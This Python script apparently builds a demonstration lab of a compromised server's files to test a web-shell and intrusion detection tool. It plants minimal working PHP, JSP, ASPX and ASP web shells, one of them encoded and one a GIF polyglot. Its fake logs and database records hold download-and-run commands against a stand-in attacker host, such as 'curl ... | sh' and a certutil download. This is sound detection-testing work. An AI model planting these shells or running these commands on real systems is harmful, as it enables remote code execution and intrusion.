"""Build the demonstration lab: a compromised server's files, collected under one folder.

    python examples/build_demo.py OUT_DIR

Writes OUT_DIR/lab/ (a root for `sscguard hunt --root`) and OUT_DIR/planted.json (what a hunt
must find). The lab holds a Debian web server (Apache with a rogue module, nginx, PHP-FPM with
a prepend file, Tomcat with a rogue valve and a WAR, Jenkins init scripts, .htaccess tricks,
dpkg records), web roots with real-looking benign pages and planted web shells, the Windows
artifacts of an IIS/Exchange peer (applicationHost.config with a rogue module, agents.config,
a SYSTEM hive with a swapped ServiceDll), ESXi command outputs, and a MariaDB catalog export.
Every file is written for this project; the shells are minimal ones, each showing one
technique. Nothing is copied from a public web-shell collection.
"""

from __future__ import annotations

import base64
import json
import os
import sys
import time
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

sys.path.insert(0, str(Path(__file__).resolve().parent))

from lab_components import EXPECTED, esxi_host, linux_host, windows_host

BENIGN: dict[str, str] = {
    "var/www/html/index.php": """<?php
declare(strict_types=1);
require __DIR__ . '/lib/bootstrap.php';

$page = $_GET['page'] ?? 'home';
if (!in_array($page, ['home', 'about', 'contact'], true)) {
    http_response_code(404);
    $page = 'notfound';
}
echo render_template($page, ['title' => ucfirst($page), 'user' => current_user()]);
""",
    "var/www/html/lib/bootstrap.php": """<?php
session_start();
function current_user(): ?string {
    return $_SESSION['user'] ?? null;
}
function render_template(string $name, array $vars): string {
    extract($vars, EXTR_SKIP);
    ob_start();
    include __DIR__ . '/../templates/' . basename($name) . '.phtml';
    return (string) ob_get_clean();
}
""",
    "var/www/html/lib/cache.php": """<?php
// Compiled-template cache: evaluates PHP that this application generated itself.
final class TemplateCache {
    public function __construct(private string $dir) {}
    public function load(string $key): mixed {
        $file = $this->dir . '/' . hash('sha256', $key) . '.php';
        if (!is_file($file)) {
            return null;
        }
        return eval('?>' . file_get_contents($file));
    }
}
""",
    "var/www/html/admin/backup.php": """<?php
require __DIR__ . '/../lib/bootstrap.php';
if (current_user() !== 'admin') { http_response_code(403); exit; }
// Fixed command, no request input: a nightly database dump started from the admin page.
$out = [];
exec('/usr/local/bin/db-backup --quiet', $out, $status);
echo $status === 0 ? 'Backup started' : 'Backup failed';
""",
    "var/www/html/contact.php": """<?php
$name = htmlspecialchars($_POST['name'] ?? '', ENT_QUOTES);
$msg = htmlspecialchars($_POST['message'] ?? '', ENT_QUOTES);
if ($name !== '' && $msg !== '') {
    mail('webmaster@example.org', 'Contact form', "$name wrote:\\n$msg");
    echo "<p>Thank you, $name.</p>";
}
""",
    "var/www/html/upload.php": """<?php
require __DIR__ . '/lib/bootstrap.php';
$allowed = ['image/png' => 'png', 'image/jpeg' => 'jpg'];
$type = mime_content_type($_FILES['photo']['tmp_name'] ?? '') ?: '';
if (isset($allowed[$type])) {
    $name = bin2hex(random_bytes(16)) . '.' . $allowed[$type];
    move_uploaded_file($_FILES['photo']['tmp_name'], __DIR__ . '/uploads/' . $name);
}
""",
    "var/www/html/templates/home.phtml": "<h1><?= htmlspecialchars($title) ?></h1>\n",
    "var/www/html/assets/app.js": "document.querySelectorAll('form').forEach(f => f.reset());\n",
    "var/lib/tomcat10/webapps/ROOT/index.jsp": """<%@ page contentType="text/html; charset=UTF-8" %>
<%
    String name = request.getParameter("name");
    if (name == null) { name = "guest"; }
%>
<html><body><h1>Hello, <%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(name) %></h1>
</body></html>
""",
    "inetpub/wwwroot/default.aspx": """<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e) {
        var q = Server.HtmlEncode(Request.QueryString["q"] ?? "");
        Result.Text = "You searched for " + q;
    }
</script>
<html><body><asp:Label id="Result" runat="server" /></body></html>
""",
    "inetpub/wwwroot/legacy/news.asp": """<%
Dim id : id = CInt(Request.QueryString("id"))
Response.Write "<h2>News item " & Server.HTMLEncode(id) & "</h2>"
%>
""",
}


def _encoded_php() -> str:
    inner = b"system($_REQUEST['c']);"
    blob = base64.b64encode(zlib.compress(inner)[2:-4]).decode()
    return f"<?php\n$p = '{blob}';\neval(gzinflate(base64_decode($p)));\n"


PLANTED: dict[str, str] = {
    # one-line PHP eval of request input, dropped next to the real app
    "var/www/html/uploads/thumb.php": "<?php @eval($_POST['t']); ?>\n",
    # layered encoding: base64 + raw deflate, evaluated
    "var/www/html/lib/cache-stats.php": _encoded_php(),
    # image polyglot: a GIF header followed by PHP
    "var/www/html/uploads/avatar.gif.php": "GIF89a\n<?php system($_GET['cmd']); ?>\n",
    # JSP command shell
    "var/lib/tomcat10/webapps/ROOT/status.jsp": """<%@ page import="java.io.*" %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l; while ((l = r.readLine()) != null) { out.println(l); }
    }
%>
""",
    # ASPX process start from a request field
    "inetpub/wwwroot/aspnet_client/health.aspx": """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    void Page_Load(object s, EventArgs e) {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["q"]);
        psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
        Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
    }
</script>
""",
    # classic ASP eval of a request value
    "inetpub/wwwroot/legacy/error.asp": '<% Execute(Request("e")) %>\n',
}


def _sql_catalog() -> str:
    """Rows a compromised MariaDB returned for sscguard's query pack (sscguard sql queries
    --engine mysql): a UDF library registered by a plain INSERT into mysql.func, an event
    that calls it every hour, and secure_file_priv left empty."""
    rows = [
        {"query": "my_server", "version": "10.11.11-MariaDB-0+deb12u1", "version_comment":
         "Debian 12", "hostname": "web1", "port": 3306, "login": "audit@localhost",
         "secure_file_priv": "", "plugin_dir": "/usr/lib/mysql/plugin/", "local_infile": "OFF",
         "datadir": "/var/lib/mysql/"},
        {"query": "my_func", "name": "sys_exec", "ret": 2, "dl": "lib_mysqludf_sys.so",
         "type": "function"},
        {"query": "my_events", "db": "shop", "name": "cache_refresh", "definer": "root@localhost",
         "status": "ENABLED",
         "definition": "DO SELECT sys_exec('curl -s http://203.0.113.9/k | sh')"},
        {"query": "my_plugins", "name": "InnoDB", "status": "ACTIVE", "type": "STORAGE ENGINE",
         "library": None, "author": "Oracle Corporation", "description": "Supports transactions",
         "load_option": "FORCE"},
    ]  # fmt: skip
    names = ("my_server", "my_func", "my_plugins", "my_plugin_table", "my_events", "my_triggers",
             "my_routines")  # fmt: skip
    rows.extend({"query": f"_done:{name}"} for name in names)
    return "".join(json.dumps(row) + "\n" for row in rows)


def _access_log() -> str:
    """Two months of ordinary traffic, then an attacker who finds the upload form, drops
    thumb.php and drives it with command parameters (combined format, as Apache writes it)."""
    import random

    rng = random.Random(7)  # deterministic lab
    pages = ["/", "/index.php?page=about", "/index.php?page=contact", "/contact.php",
             "/assets/app.js", "/index.php?page=home", "/upload.php"]  # fmt: skip
    agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 Version/18.0 Safari",
        "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) Mobile/15E148 Safari/604.1",
    ]
    lines = []

    def line(when: int, ip: str, req: str, status: int, size: int, ref: str, agent: str) -> None:
        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(when))
        lines.append(f'{ip} - - [{stamp}] "{req}" {status} {size} "{ref}" "{agent}"')

    when = APP_DEPLOYED
    for _ in range(3000):  # benign visitors
        when += rng.randint(60, 1900)
        page = rng.choice(pages)
        method = "POST" if page == "/contact.php" and rng.random() < 0.3 else "GET"
        ref = "https://www.example.org/" if rng.random() < 0.7 else "-"
        ip = f"198.51.100.{rng.randint(2, 250)}"
        line(when, ip, f"{method} {page} HTTP/1.1", 200, rng.randint(900, 9000), ref,
             rng.choice(agents))  # fmt: skip
    attacker = "203.0.113.66"
    tool = "python-requests/2.31.0"
    when = INTRUSION - 600
    line(when, attacker, "GET /upload.php HTTP/1.1", 200, 1450, "-", tool)
    line(when + 30, attacker, "POST /upload.php HTTP/1.1", 200, 120, "-", tool)
    for offset, command in enumerate(("id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www",
                                      "wget+http://203.0.113.9/x+-O+/tmp/x")):  # fmt: skip
        line(
            INTRUSION + 60 * offset,
            attacker,
            f"POST /uploads/thumb.php?t={command} HTTP/1.1",
            200,
            40 + 37 * offset,
            "-",
            tool,
        )
    line(INTRUSION + 9_000, attacker, "GET /uploads/avatar.gif.php?cmd=whoami HTTP/1.1", 200, 9,
         "-", tool)  # fmt: skip
    return "\n".join(lines) + "\n"


def _events_xml() -> str:
    """Exported Windows event records of the IIS/Exchange peer (Sysmon and MSExchange)."""
    ns = "http://schemas.microsoft.com/win/2004/08/events/event"

    def event(provider: str, channel: str, eid: int, when: str, data: dict[str, str]) -> str:
        items = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
        return (
            f'<Event xmlns="{ns}"><System><Provider Name="{provider}"/><EventID>{eid}</EventID>'
            f'<TimeCreated SystemTime="{when}"/><Channel>{channel}</Channel><Computer>EXCH01'
            f"</Computer></System><EventData>{items}</EventData></Event>"
        )

    sysmon = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    events = [
        event(*sysmon, 1, "2026-11-19T02:14:09.000Z", {
            "ParentImage": w3wp, "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": 'cmd.exe /c "whoami /all"', "User": "IIS APPPOOL\\DefaultAppPool"}),
        event(*sysmon, 1, "2026-11-19T02:15:40.000Z", {
            "ParentImage": w3wp, "Image": "C:\\Windows\\System32\\certutil.exe",
            "CommandLine": "certutil -urlcache -f http://203.0.113.9/a.dll "
                           "C:\\Windows\\Temp\\a.dll",
            "User": "IIS APPPOOL\\DefaultAppPool"}),
        event("MSExchange CmdletLogs", "MSExchange Management", 6, "2026-11-19T03:02:00.000Z", {
            "Cmdlet": "Install-TransportAgent",
            "Parameters": '-Name "Message Hygiene Agent" -TransportAgentFactory '
                          "Hygiene.Agents.Factory -AssemblyPath C:\\Program Files\\Microsoft"
                          "\\Exchange Server\\V15\\Bin\\hygiene.dll"}),
    ]  # fmt: skip
    return "<Events>" + "".join(events) + "</Events>\n"


def _audit_log() -> str:
    """auditd execve records: PHP-FPM (www-data) starting a shell that runs id."""
    base = INTRUSION + 61
    return (
        f"type=SYSCALL msg=audit({base}.100:501): arch=c000003e syscall=59 success=yes exit=0 "
        'ppid=1 pid=811 auid=4294967295 uid=0 euid=0 comm="php-fpm8.2" '
        'exe="/usr/sbin/php-fpm8.2" key=(null)\n'
        f'type=EXECVE msg=audit({base}.100:501): argc=1 a0="php-fpm8.2"\n'
        f"type=SYSCALL msg=audit({base + 1}.200:502): arch=c000003e syscall=59 success=yes "
        'exit=0 ppid=811 pid=930 auid=4294967295 uid=33 euid=33 comm="sh" '
        'exe="/usr/bin/dash" key="webexec"\n'
        f'type=EXECVE msg=audit({base + 1}.200:502): argc=3 a0="sh" a1="-c" a2="id"\n'
        f"type=SYSCALL msg=audit({base + 1}.300:503): arch=c000003e syscall=59 success=yes "
        'exit=0 ppid=930 pid=931 auid=4294967295 uid=33 euid=33 comm="id" '
        'exe="/usr/bin/id" key="webexec"\n'
        f'type=EXECVE msg=audit({base + 1}.300:503): argc=1 a0="id"\n'
    )


SQL_CATALOG = "collected/sql/mariadb-web1.jsonl"
APP_DEPLOYED = 1_788_256_800  # 2026-09-01T10:00:00Z
INTRUSION = 1_794_996_000  # 2026-11-18T10:00:00Z


def _servers(lab: Path, clean: bool) -> None:
    linux_host(lab, clean=clean)
    windows_host(lab, clean=clean)
    esxi_host(lab, clean=clean)
    stamp = APP_DEPLOYED if clean else INTRUSION - 3_600
    for folder, _, names in os.walk(lab):
        for name in names:
            path = os.path.join(folder, name)
            if clean or os.stat(path).st_mtime > INTRUSION + 30 * 86_400:  # written just now
                os.utime(path, (stamp, stamp), follow_symlinks=False)


def _write_files(lab: Path, files: dict[str, str], first: int, step: int) -> None:
    for index, (rel, text) in enumerate(files.items()):
        path = lab / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        os.utime(path, (first + index * step, first + index * step))


def _take_baseline(lab: Path, db: Path) -> None:
    """`sscguard baseline init` on the freshly installed servers (the September state)."""
    from sscguard.cli import main as sscguard

    db.unlink(missing_ok=True)
    code = sscguard(["baseline", "init", "--root", str(lab), "--db", str(db), "-q",
                     "--no-progress", "--format", "json", "-o", os.devnull])  # fmt: skip
    if code not in (0, 1):
        raise SystemExit(f"baseline init failed with exit code {code}")


def build(out: Path) -> dict[str, object]:
    """Write the lab under ``out/lab`` and return (and save) what a hunt must find."""
    lab = out / "lab"
    # September: the servers as installed, and the integrity baseline taken then.
    _servers(lab, clean=True)
    _write_files(lab, BENIGN, APP_DEPLOYED, 60)
    baseline = out / "baseline.db"
    _take_baseline(lab, baseline)
    # November: the intrusion changes components and drops shells (below).
    _servers(lab, clean=False)
    _write_files(lab, BENIGN, APP_DEPLOYED, 60)  # the application, as deployed, unchanged
    _write_files(lab, PLANTED, INTRUSION, 9_000)  # the shells, one by one over three days
    plugins = lab / "usr/lib/mysql/plugin"  # the UDF library the catalog's mysql.func row names
    plugins.mkdir(parents=True, exist_ok=True)
    (lab / "var/lib/mysql").mkdir(parents=True, exist_ok=True)  # the server's datadir
    (plugins / "lib_mysqludf_sys.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57)
    for rel, text in (
        ("var/log/apache2/access.log", _access_log()),
        ("var/log/audit/audit.log", _audit_log()),
        ("Windows/System32/winevt/Logs/exported-events.xml", _events_xml()),
    ):
        path = lab / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    catalog = lab / SQL_CATALOG
    catalog.parent.mkdir(parents=True, exist_ok=True)
    catalog.write_text(_sql_catalog(), encoding="utf-8")
    expected_rules = sorted(
        {r for rules in EXPECTED.values() for r in rules}
        | SQL_EXPECTED
        | LOG_EXPECTED
        | BASELINE_EXPECTED
    )
    manifest: dict[str, object] = {
        "root": str(lab),
        "sql_catalog": str(catalog),
        "baseline": str(baseline),
        "planted_shells": sorted(str(lab / rel) for rel in PLANTED),
        "benign_files": sorted(str(lab / rel) for rel in BENIGN),
        "top_ranked_uri": "/uploads/thumb.php",
        "expected_rules": expected_rules,
    }
    (out / "planted.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    return manifest


# What the SQL catalog must raise: the mysql.func row, the event calling it, secure_file_priv.
SQL_EXPECTED = {"SSC-001-020", "SSC-001-022", "SSC-001-024"}
# What the baseline verify must raise: files added to web roots and component folders, and
# component files whose content changed since September.
BASELINE_EXPECTED = {"SSC-000-100", "SSC-000-102"}
# What the logs and event records must raise: the ranked shell, its command parameters, the
# upload before it, the request tied to the flagged file, the server's shell and recon
# children (Sysmon and auditd), and the transport agent install (MSExchange event 6).
LOG_EXPECTED = {"SSC-003-200", "SSC-003-201", "SSC-003-203", "SSC-003-210", "SSC-003-250",
                "SSC-003-251", "SSC-002-200"}  # fmt: skip


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 2
    out = Path(sys.argv[1]).resolve()
    manifest = build(out)
    shells = manifest["planted_shells"]
    rules = manifest["expected_rules"]
    assert isinstance(shells, list) and isinstance(rules, list)
    print(
        f"demo lab in {manifest['root']}: a Linux web server (Apache, nginx, PHP-FPM, Tomcat, "
        "Jenkins), IIS/Exchange/TermService artifacts, ESXi outputs and a MariaDB catalog; "
        f"{len(shells)} planted web shells, {len(rules)} expected checks"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
